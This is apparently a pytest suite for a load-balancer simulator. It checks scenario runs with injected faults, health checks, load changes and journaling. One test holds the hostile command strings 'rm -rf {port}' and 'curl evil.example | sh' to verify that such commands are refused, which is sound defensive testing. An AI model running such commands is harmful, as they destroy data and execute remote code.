"""Whole runs on real sockets: what comes of them, what they write down, and that nothing is left of them."""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import TypeVar

import pytest

from simlb.errors import EXIT_USAGE, SimlbError
from simlb.scenario import journal
from simlb.scenario.journal import (
    Answered,
    Asked,
    ClientEnded,
    Deregistered,
    Entry,
    FaultHealed,
    FaultInstalled,
    Judged,
    LoadChanged,
    Marked,
    Narrated,
    Paused,
    Registered,
    RequestEnded,
    Resumed,
    Sampled,
    Settled,
    Spoken,
    StateChanged,
    StepMissed,
    TargetGroupChanged,
    Warned,
)
from simlb.scenario.model import Scenario, SetLoad
from simlb.scenario.runner import Run, RunResult, run, run_scenario
from tests.scenario.tiny import NOTHING, STEADY, Watcher, serving, story

pytestmark = pytest.mark.slow

Kind = TypeVar("Kind", bound=Entry)


@pytest.fixture
async def ports() -> AsyncIterator[list[int]]:
    async with serving() as found:
        yield found


@pytest.fixture(autouse=True)
def nothing_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Every run ends without a file in the temporary folder and without a task on the loop."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield
    assert list(folder.iterdir()) == []


def of_kind(result: RunResult, kind: type[Kind]) -> list[Kind]:
    return [entry for entry in result.entries if isinstance(entry, kind)]


CRASH = """\
load: [{id: users, rate: 4/s, path: "/items/{n}"}]
timeline:
  - {at: 0s, say: {ko: "시작 {N}", en: "{N} targets"}}
  - {at: 2s, fault: {id: cut, type: link.reset, on: web/2, with: {at: connect}}, say: Cut.}
  - {when: "health(web/2) == unhealthy", within: 15s, say: {ko: "{elapsed}초", en: "out after {elapsed} s"}}
  - {after: {event: "health(web/2) == unhealthy", wait: 2s}, heal: cut, mark: mended}
  - {when: "health(web/2) == healthy", within: 15s, say: Back.}
expect:
  - {id: detect, that: "between(cut, health(web/2)==unhealthy)", in: ["(U-1)*I - 1s", "U*I + 3s"]}
  - {id: blame, that: "all(log.elb_status==502 => log.target_status=='-')"}
  - {id: healed, that: "between(mended, health(web/2)==healthy)", below: 15s}
  - {id: wrong, that: "count(elb_5xx)", eq: 10000}
"""


async def test_a_story_is_played_recorded_and_judged(ports: list[int], tmp_path: Path) -> None:
    path, watcher = tmp_path / "runs" / "a.jsonl", Watcher()
    result = await run(story(ports, STEADY + CRASH), journal_path=path, observer=watcher)
    assert (result.outcome, result.exit_status, result.error) == ("failed", 1, None)
    assert {entry.id: entry.has_passed for entry in of_kind(result, Judged)} == {
        "detect": True,
        "blame": True,
        "healed": True,
        "wrong": False,
    }
    # File, observer and result have the same records.
    assert tuple(journal.read(path)) == result.entries == tuple(watcher.entries)
    said = [entry.words.en for entry in of_kind(result, Narrated)]
    assert said[0] == "2 targets"
    assert said[2].startswith("out after ")
    assert [entry.name for entry in of_kind(result, Marked)] == ["start", "mended", "end"]
    assert [(entry.id, entry.on) for entry in of_kind(result, FaultInstalled)] == [("cut", ("i-02",))]
    assert [entry.id for entry in of_kind(result, FaultHealed)] == ["cut"]
    states = [entry.state for entry in of_kind(result, StateChanged) if entry.target == "i-02"]
    assert states[0] == "initial"
    assert states[-3:] == ["healthy", "unhealthy", "healthy"]
    assert of_kind(result, Sampled)


async def test_each_request_is_in_the_journal_as_the_log_has_it_and_as_its_client_saw_it(ports: list[int]) -> None:
    rest = """\
load: [{id: users, rate: 5/s, requests: 10, path: "/items/{n}"}]
timeline: [{at: 4s, mark: a}]
expect: [{id: all, that: "count(2xx)", eq: 10}, {id: clients, that: "client(2xx)", eq: 10}]
"""
    result = await run(story(ports, rest))
    requests, clients = of_kind(result, RequestEnded), of_kind(result, ClientEnded)
    assert sorted(entry.path for entry in requests) == sorted(f"/items/{number}" for number in range(10))
    assert {entry.elb_status for entry in requests} == {200}
    assert sorted(entry.number for entry in clients) == list(range(10)), (
        "in the order of their ends, which is nobody's promise"
    )
    assert {entry.status for entry in clients} == {200}


async def test_without_a_steady_state_the_run_is_void_and_nothing_is_judged(ports: list[int]) -> None:
    result = await run(story(ports, STEADY.replace("== 2", "== 3").replace("10s", "2s") + NOTHING))
    assert (result.outcome, result.exit_status) == ("void", 4)
    assert result.summary.steady is not None
    assert result.summary.steady.seen == ("healthy(web) == 3 (2)",)
    assert not of_kind(result, Judged)
    assert not of_kind(result, Marked)


async def test_a_step_that_is_waited_for_in_vain_is_a_failure_and_the_rest_is_judged(ports: list[int]) -> None:
    rest = """\
timeline:
  - {when: "health(web/1) == unhealthy", within: 2s, say: Never.}
expect: [{id: fine, that: "healthy(web) == 2"}]
"""
    result = await run(story(ports, rest))
    assert (result.outcome, result.exit_status) == ("missed", 1)
    (missed,) = of_kind(result, StepMissed)
    assert (missed.step, missed.within_s) == (1, 2.0)
    assert [entry.has_passed for entry in of_kind(result, Judged)] == [True]


QUESTION = """\
timeline:
  - at: 1s
    ask: {ko: "몇 개?", en: "How many?", choices: ["1", "2"], answer: 1, explain: "There are {N}."}
  - {at: 2s, mark: later}
expect: [{id: fine, that: "healthy(web) == 2"}]
"""


async def test_while_somebody_thinks_the_story_stands_still(ports: list[int]) -> None:
    # 0.2 real seconds are 10 of the load balancer.
    result = await run(story(ports, QUESTION), observer=Watcher(1, think_s=0.2))
    (answered,) = of_kind(result, Answered)
    assert (answered.chosen, answered.is_right) == (1, True)
    (asked,) = of_kind(result, Asked)
    assert asked.explanation == Spoken(en="There are 2.", ko="There are 2.")
    start, later = (entry.at_s for entry in of_kind(result, Marked) if entry.name != "end")
    assert later - start >= 12.0


@pytest.mark.parametrize(("answer", "is_right"), [(0, False), (None, False)])
async def test_a_wrong_answer_and_none_go_on_as_well(ports: list[int], answer: int | None, is_right: bool) -> None:
    result = await run(story(ports, QUESTION), observer=Watcher(answer))
    (answered,) = of_kind(result, Answered)
    assert (answered.chosen, answered.is_right) == (answer, is_right)


async def test_a_paused_story_goes_on_where_it_was(ports: list[int]) -> None:
    scenario = story(ports, QUESTION)
    watcher = Watcher(1)
    prepared = Run(scenario, observer=watcher)
    prepared.pause()  # before it has begun: no step comes

    async def let_go() -> None:
        while not any(isinstance(entry, Marked) for entry in watcher.entries):
            await asyncio.sleep(0.01)
        assert not watcher.questions
        prepared.resume()

    result, _ = await asyncio.gather(prepared.perform(), let_go())
    assert result.outcome == "passed"
    kinds = [entry for entry in result.entries if isinstance(entry, Paused | Resumed | Asked)]
    assert [type(entry) for entry in kinds] == [Paused, Resumed, Asked]


async def test_what_is_decided_is_told_before_the_end(ports: list[int]) -> None:
    # A real second is 50 of the load balancer's.
    rest = """\
timeline:
  - {at: 0s, mark: a}
  - {at: 5s, mark: b}
  - {at: 130s, mark: late}
expect:
  - {id: early, that: "between(a, b)", in: [4s, 100s]}
  - {id: never, that: "count(5xx)", eq: 0}
  - {id: ready, that: "healthy(web, at=a)", eq: 1}
"""
    result = await run(story(ports, STEADY + rest), observer=Watcher())
    settled = {entry.id: entry for entry in of_kind(result, Settled)}
    judged = {entry.id: entry for entry in of_kind(result, Judged)}
    assert {name: entry.has_passed for name, entry in settled.items()} == {"early": True, "ready": False}
    assert all(entry.seen == judged[name].seen for name, entry in settled.items())
    assert list(judged) == ["early", "never", "ready"]


async def test_thinking_while_a_fault_is_in_force_is_noted(ports: list[int]) -> None:
    rest = QUESTION.replace(
        "  - at: 1s\n", "  - at: 1s\n    fault: {id: slow, type: link.latency, on: web/1, with: {delay: 10ms}}\n"
    )
    result = await run(story(ports, rest), observer=Watcher(1, think_s=0.1))
    assert any("slow" in entry.words.en for entry in of_kind(result, Warned))


async def test_targets_are_deregistered_and_come_back_under_their_names(ports: list[int]) -> None:
    rest = """\
timeline:
  - {at: 0s, change: {target_group: web, attributes: {deregistration_delay.timeout_seconds: 1}}}
  - {at: 1s, deregister: web/1}
  - {when: "health(web/1) == unused", within: 10s, register: web/1}
  - {when: "health(web/1) == healthy", within: 20s, mark: back}
expect: [{id: fine, that: "healthy(web) == 2"}]
"""
    result = await run(story(ports, rest))
    assert result.outcome == "passed", result.error
    assert [entry.targets for entry in of_kind(result, Deregistered)] == [("i-01",)]
    assert [entry.targets for entry in of_kind(result, Registered)] == [("i-01",)]
    assert {entry.target for entry in of_kind(result, StateChanged)} == {"i-01", "i-02"}
    first = [entry.state for entry in of_kind(result, StateChanged) if entry.target == "i-01"]
    assert [state for state in first if state in {"healthy", "draining", "unused"}] == [
        "healthy",
        "draining",
        "unused",
        "healthy",
    ]


async def test_a_health_check_is_changed_as_in_the_console(ports: list[int]) -> None:
    rest = """\
timeline:
  - {at: 0s, change: {target_group: web, health: {matcher: "404", interval: 6s}}}
  - {when: "unhealthy(web) == 2", within: 30s, mark: gone}
expect: [{id: reason, that: "reason(web/1) == 'Target.ResponseCodeMismatch'"}]
"""
    result = await run(story(ports, rest))
    assert result.outcome == "passed", result.error
    (changed,) = of_kind(result, TargetGroupChanged)
    assert changed.health_check == {"matcher": "404", "interval": "6s"}


async def test_loads_are_started_changed_and_stopped_by_steps(ports: list[int]) -> None:
    rest = """\
load:
  - {id: first, rate: 1/s, starts: later}
  - {id: second, rate: 1/s, starts: 1s}
  - {id: crowd, users: 2, think: 1s, starts: later}
timeline:
  - {at: 0s, load: {id: first, run: true}}
  - {at: 2s, load: {id: first, rate: 2/s}}
  - {at: 3s, load: {id: crowd, run: true}}
  - {at: 4s, load: {id: crowd, users: 3}}
  - {at: 5s, load: {id: first, run: false}}
expect: [{id: some, that: "client(2xx)", above: 0}]
"""
    result = await run(story(ports, rest))
    assert result.outcome == "passed", result.error
    assert [(entry.id, entry.is_running, entry.rate_per_s, entry.users) for entry in of_kind(result, LoadChanged)] == [
        ("first", True, 1.0, None),
        ("second", True, 1.0, None),
        ("first", True, 2.0, None),
        ("crowd", True, None, 2),
        ("crowd", True, None, 3),
        ("first", False, 2.0, None),
    ]


async def test_faults_of_the_topology_are_there_before_the_first_probe(ports: list[int]) -> None:
    faulty = "faults: [{id: path, type: health.status, on: web, with: {code: 404}}]"
    rest = f"""\
  {faulty}
timeline: [{{when: "unhealthy(web) == 2", within: 20s, heal: path}}]
expect: [{{id: never, that: "flips(web/1)", eq: 0}}]
"""
    result = await run(story(ports, rest))
    assert result.outcome == "passed", result.error
    assert "healthy" not in {entry.state for entry in of_kind(result, StateChanged)}


async def test_modelled_latencies_are_no_faults_of_the_story(ports: list[int]) -> None:
    scenario = story(ports, "load: [{id: users, rate: 4/s, requests: 4}]\n" + NOTHING.replace("0s", "2s"))
    slowed = _with_latency(scenario, 0.5)
    result = await run(slowed)
    assert result.outcome == "passed", result.error
    assert not of_kind(result, FaultInstalled)
    assert not of_kind(result, FaultHealed)
    assert min(entry.latency_s for entry in of_kind(result, ClientEnded)) >= 0.5


async def test_what_cannot_be_carried_out_ends_the_run_with_its_reason(ports: list[int]) -> None:
    scenario = story(ports, "load: [{id: users, rate: 4/s}]\n" + NOTHING)
    # Above the cap on real requests: a file that says so is refused.
    step = replace(scenario.timeline[0], actions=(SetLoad(id="users", rate_per_s=4000.0),))
    result = await run(replace(scenario, timeline=(step,)))
    assert result.outcome == "broken"
    assert result.error is not None
    assert (result.error.code, result.exit_status) == ("E654", EXIT_USAGE)
    assert result.summary.why == result.error.what


FOR_EVER = """\
load: [{id: users, rate: 4/s}]
timeline:
  - {at: 0s, fault: {id: dead, type: link.blackhole, on: web/1}, mark: begun}
  - {at: 1000s, mark: never}
expect: [{id: fine, that: "healthy(web) == 2"}]
"""


async def test_an_interrupted_run_undoes_everything_and_says_so(ports: list[int]) -> None:
    running: list[Run] = []

    class Impatient(Watcher):
        def wrote(self, entry: Entry) -> None:
            if isinstance(entry, Marked) and entry.name == "begun":
                running[0].interrupt()
                running[0].interrupt()

    running.append(Run(story(ports, FOR_EVER), observer=Impatient()))
    before = asyncio.all_tasks()
    result = await running[0].perform()
    assert (result.outcome, result.exit_status) == ("interrupted", 130)
    assert asyncio.all_tasks() - before <= set()


async def test_a_run_that_is_interrupted_before_it_begins_does_not_begin(ports: list[int]) -> None:
    prepared = Run(story(ports, FOR_EVER))
    prepared.interrupt()
    assert (await prepared.perform()).outcome == "interrupted"


async def test_a_run_that_is_cancelled_cleans_up_first(ports: list[int]) -> None:
    begun = asyncio.Event()

    class Waiting(Watcher):
        def wrote(self, entry: Entry) -> None:
            if isinstance(entry, Marked) and entry.name == "begun":
                begun.set()

    task = asyncio.ensure_future(run(story(ports, FOR_EVER), observer=Waiting()))
    waiting = asyncio.ensure_future(begun.wait())
    await asyncio.wait([task, waiting], return_when=asyncio.FIRST_COMPLETED)
    waiting.cancel()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task


async def test_a_terminal_that_goes_away_ends_the_run(ports: list[int]) -> None:
    class Gone(Watcher):
        def wrote(self, entry: Entry) -> None:
            if isinstance(entry, RequestEnded):
                raise BrokenPipeError("nobody reads")

    with pytest.raises(BrokenPipeError):
        await run(story(ports, FOR_EVER), observer=Gone())


async def test_a_disk_that_is_full_ends_the_run(ports: list[int]) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("a device that is always full is Linux's")
    with pytest.raises(SimlbError) as raised:
        await run(story(ports, FOR_EVER), journal_path=Path("/dev/full"))
    assert raised.value.code == "E680"


async def test_commands_are_shown_and_refused() -> None:
    scenario = story([1], NOTHING)
    travelled = _with_commands(scenario, "rm -rf {port}", "curl evil.example | sh")
    with pytest.raises(SimlbError) as raised:
        Run(travelled)
    assert (raised.value.code, raised.value.exit_status) == ("E684", EXIT_USAGE)
    assert "  rm -rf {port}" in raised.value.notes
    assert "  curl evil.example | sh" in raised.value.notes
    Run(travelled, allow_run=True)


async def test_faster_than_its_highest_speed_is_refused() -> None:
    with pytest.raises(SimlbError) as raised:
        Run(story([1], NOTHING), speed=101.0)
    assert raised.value.code == "E664"


def test_code_without_a_loop_can_run_one_too() -> None:
    # Nothing listens there: the targets never pass, and the story is short.
    rest = "timeline: [{at: 1s, mark: a}]\nexpect: [{id: none, that: 'healthy(web)', eq: 0}]\n"
    result = run_scenario(story([1, 2], rest), seed=9)
    assert result.outcome == "passed", result.error
    assert result.summary.meta.seed == 9


def _with_latency(scenario: Scenario, latency_s: float) -> Scenario:
    topology = replace(scenario.topology, latencies={"i-01": latency_s, "i-02": latency_s})
    return replace(scenario, topology=topology)


def _with_commands(scenario: Scenario, *commands: str) -> Scenario:
    return replace(scenario, topology=replace(scenario.topology, uses_commands=commands))
